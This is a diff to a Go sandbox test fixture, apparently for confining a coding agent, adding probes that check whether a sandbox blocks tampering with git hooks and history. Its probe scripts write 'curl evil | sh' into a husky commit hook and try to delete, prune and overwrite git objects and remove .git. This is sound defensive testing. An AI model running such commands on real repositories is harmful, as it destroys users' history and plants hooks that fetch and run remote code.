@@ -2,6 +2,9 @@ package sandbox
 
 import (
 	"bytes"
+	"compress/zlib"
+	"crypto/sha1"
+	"encoding/hex"
 	"fmt"
 	"net"
 	"os"
@@ -19,6 +22,9 @@ type fixture struct {
 	abstractLn          net.Listener
 	ptyMaster, ptySlave *os.File
 	ptsName             string
+	// a loose object of the project's repository, for the history probe
+	objectPath string
+	objectData []byte
 }
 
 const (
@@ -110,6 +116,36 @@ func (f *fixture) resetGit() {
 		os.WriteFile(filepath.Join(g, "hooks", "pre-commit"), []byte(hookText), 0o755)
 	}
 	os.RemoveAll(filepath.Join(f.proj, "git-moved"))
+	f.objectPath, f.objectData = plantGitObject(filepath.Join(f.proj, ".git"), "history "+f.tag+"\n")
+	// A repository whose hooks are husky v9's: core.hooksPath .husky/_,
+	// whose stubs run .husky/<hook>, which the user's next commit runs.
+	husky := filepath.Join(f.proj, "husky")
+	os.MkdirAll(filepath.Join(husky, ".git", "hooks"), 0o755)
+	os.WriteFile(filepath.Join(husky, ".git", "HEAD"), []byte("ref: refs/heads/main\n"), 0o644)
+	os.WriteFile(filepath.Join(husky, ".git", "config"), []byte(configText+"\thooksPath = .husky/_\n"), 0o644)
+	os.MkdirAll(filepath.Join(husky, ".husky", "_"), 0o755)
+	os.WriteFile(filepath.Join(husky, ".husky", "_", "pre-commit"), []byte("#!/usr/bin/env sh\n. \"$(dirname \"$0\")/h\"\n"), 0o755)
+	os.WriteFile(filepath.Join(husky, ".husky", "pre-commit"), []byte(hookText), 0o755)
+}
+
+// plantGitObject writes a loose blob into a git directory as git would
+// (zlib of "blob <size>\0<content>", named by its SHA-1) and returns its
+// path and bytes, for the probe that tries to destroy history.
+func plantGitObject(gitDir, content string) (path string, data []byte) {
+	raw := fmt.Sprintf("blob %d\x00%s", len(content), content)
+	sum := sha1.Sum([]byte(raw))
+	name := hex.EncodeToString(sum[:])
+	var b bytes.Buffer
+	zw := zlib.NewWriter(&b)
+	zw.Write([]byte(raw))
+	zw.Close()
+	path = filepath.Join(gitDir, "objects", name[:2], name[2:])
+	os.MkdirAll(filepath.Dir(path), 0o755)
+	if old, err := os.ReadFile(path); err != nil || !bytes.Equal(old, b.Bytes()) {
+		os.Remove(path)
+		os.WriteFile(path, b.Bytes(), 0o444)
+	}
+	return path, b.Bytes()
 }
 
 // openPty opens a host terminal in raw mode: a byte pushed with TIOCSTI
@@ -194,6 +230,25 @@ func (f *fixture) wallProbes(helper string) []probe {
 			script: "echo evil > .git/hooks/pre-commit; echo evil >> .git/config; echo evil > sub/.git/hooks/pre-commit; echo evil > .agents/conf; chmod 777 .git/hooks/pre-commit",
 			check:  gitIntact},
 		probe{name: "mv .git", before: f.resetGit, script: "mv .git git-moved", check: gitIntact},
+		probe{name: "what a hooks path runs (husky's .husky/pre-commit)", before: f.resetGit,
+			script: "echo 'curl evil | sh' > husky/.husky/pre-commit; rm -f husky/.husky/pre-commit; echo evil > husky/.husky/_/pre-commit; true",
+			check: func(*Result) string {
+				if c := content(filepath.Join(f.proj, "husky", ".husky", "pre-commit")); c != hookText {
+					return "husky/.husky/pre-commit changed: the user's next commit runs it"
+				}
+				return ""
+			}},
+		// Commits work inside, so objects are written there; but only
+		// added to: history that existed cannot be deleted or rewritten.
+		probe{name: "git history: delete, prune, overwrite objects", before: f.resetGit,
+			script: "git gc -q --prune=now 2>/dev/null; rm -rf .git/objects/* .git/objects/.harness-base/* 2>/dev/null; " +
+				"for o in $(find .git/objects -type f 2>/dev/null); do chmod u+w \"$o\" 2>/dev/null; printf x > \"$o\" 2>/dev/null; done; rm -rf .git 2>/dev/null; true",
+			check: func(*Result) string {
+				if b, err := os.ReadFile(f.objectPath); err != nil || !bytes.Equal(b, f.objectData) {
+					return "an object that existed was deleted or rewritten: " + f.objectPath
+				}
+				return ""
+			}},
 		probe{name: "rm -rf .git", before: f.resetGit, script: "rm -rf .git sub/.git .agents", check: func(r *Result) string {
 			if !exists(filepath.Join(f.proj, ".git", "HEAD")) || !exists(filepath.Join(f.proj, "sub", ".git", "HEAD")) {
 				return ".git was removed"
